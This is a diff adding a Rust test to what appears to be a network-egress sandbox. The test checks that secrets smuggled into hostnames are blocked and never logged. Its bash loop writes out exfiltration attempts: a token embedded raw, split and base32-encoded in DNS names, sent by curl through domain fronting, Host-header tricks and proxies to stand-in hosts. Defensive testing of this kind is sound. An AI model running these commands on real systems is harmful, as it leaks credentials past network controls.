@@ -103,3 +103,48 @@ fn what_is_denied_is_known_to_what_looks_through_output_and_changes() {
     assert!(outcome.out.starts_with(&"x".repeat(secret.len())), "{outcome:?}");
     assert!(!outcome.out.contains(secret) && outcome.out.contains("service/.env"), "{outcome:?}");
 }
+
+#[test]
+fn no_name_that_is_refused_is_written_down_with_a_secret_in_it() {
+    let world = World::new();
+    let secret = "0123456789abcdef77aa66bb55cc44dd";
+    let network = "allow = [{ host = \"allowed.example\", methods = [\"GET\"] }, \"*.wild.example\", \"allowed.example:80\"]";
+    let policy = world.policy(&format!("{network}\n[leaks]\nscan = [\"egress\"]\n"));
+    world.place.write("words", secret);
+    world.place.write("ask.py", include_str!("../world/names.py"));
+    let outcome = world.host(&format!(
+        r#"export SSL_CERT_FILE=$BASE/ca.pem APP_TOKEN={secret}; "$RF" run --quiet --policy {policy} --workspace . -- bash -c '
+s=$(cat words)
+for name in $s ${{s:0:16}}.${{s:16}} $(printf %s $s | base32 | tr -d = | cut -c1-52) $s-x$s.deep; do
+    curl -skm9 --connect-to ::allowed.example:443 https://$name.wild.example/
+    curl -skm9 --connect-to ::allowed.example:443 https://$name.other.example/
+    curl -skm9 -H "Host: $name.other.example" https://allowed.example/ http://allowed.example/
+    curl -skm9 -px http://allowed.example:80 https://$name.other.example/
+    curl -skm9 -x http://allowed.example:80 http://$name.other.example/
+    python3 ask.py $name
+done; true' >/dev/null; "$RF" explain --all"#
+    ));
+    let events = serde_json::to_string(&world.events()).unwrap();
+    for text in [&outcome.out, &outcome.err, &events] {
+        let text = text.to_ascii_lowercase();
+        for part in [secret, &secret[..16], &secret[16..], "gaytemzugu3dooby"] {
+            assert!(!text.contains(part), "{part}: {text}");
+        }
+    }
+    assert!(
+        events.contains("the variable APP_TOKEN of whoever started this, raw, is in what was asked for"),
+        "{events}"
+    );
+    assert!(outcome.out.contains("(a name that is not written down)"), "{outcome:?}");
+    // The name that holds none is told of as ever.
+    let outcome = world.run(
+        &format!("{network}\n[leaks]\nscan = [\"egress\"]\n"),
+        "curl -skm9 --connect-to ::allowed.example:443 https://no-secret.other.example/; true",
+    );
+    let rule = "names another server, `no-secret.other.example`";
+    assert!(
+        serde_json::to_string(&world.events()).unwrap().contains(rule),
+        "{outcome:?} {:?}",
+        world.events()
+    );
+}
